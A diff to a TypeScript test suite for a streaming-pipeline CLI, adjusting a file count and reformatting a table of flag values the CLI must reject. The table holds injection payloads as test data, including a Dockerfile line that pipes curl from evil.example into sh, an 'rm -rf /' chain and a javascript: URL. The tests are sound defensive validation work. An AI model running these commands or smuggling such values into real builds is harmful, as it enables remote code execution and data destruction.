@@ -126,7 +126,7 @@ describe('streaming-pipeline CLI', () => {
     ]);
     expect(result.code).toBe(0);
     const written = result.stdout.trim().split('\n');
-    expect(written).toHaveLength(13);
+    expect(written).toHaveLength(15);
     expect(
       written.map(w => w.slice(w.indexOf(dir.split('/').pop()!))),
     ).toContain(`${dir.split('/').pop()}/schemas/user_event.avsc`);
@@ -206,15 +206,35 @@ describe('streaming-pipeline CLI', () => {
   });
 
   it.each([
-    ['--spark-version', '4.0.0\nRUN curl https://evil.example | sh', 'expected a Spark version such as 4.0.0'],
-    ['--spark-version', '4.0.0 && rm -rf /', 'expected a Spark version such as 4.0.0'],
+    [
+      '--spark-version',
+      '4.0.0\nRUN curl https://evil.example | sh',
+      'expected a Spark version such as 4.0.0',
+    ],
+    [
+      '--spark-version',
+      '4.0.0 && rm -rf /',
+      'expected a Spark version such as 4.0.0',
+    ],
     ['--namespace', 'Kube System', 'expected a Kubernetes namespace'],
     ['--namespace', 'a'.repeat(64), 'expected a Kubernetes namespace'],
-    ['--techdocs-base-url', ['javascript', 'alert(1)'].join(':'), 'expected an http(s) URL without credentials'],
-    ['--techdocs-base-url', 'ftp://docs.example.com/', 'expected an http(s) URL without credentials'],
+    [
+      '--techdocs-base-url',
+      ['javascript', 'alert(1)'].join(':'),
+      'expected an http(s) URL without credentials',
+    ],
+    [
+      '--techdocs-base-url',
+      'ftp://docs.example.com/',
+      'expected an http(s) URL without credentials',
+    ],
     ['--image', 'job:1 --privileged', 'expected a container image reference'],
     ['--progress-topic', '__consumer_offsets', 'expected a Kafka topic name'],
-    ['--kubernetes-cluster', 'prod\nevil: true', 'expected the name of a Kubernetes cluster'],
+    [
+      '--kubernetes-cluster',
+      'prod\nevil: true',
+      'expected the name of a Kubernetes cluster',
+    ],
   ])('refuses %s %j, writing nothing', (flag, value, message) => {
     const out = join(dir, 'out');
     const result = run([
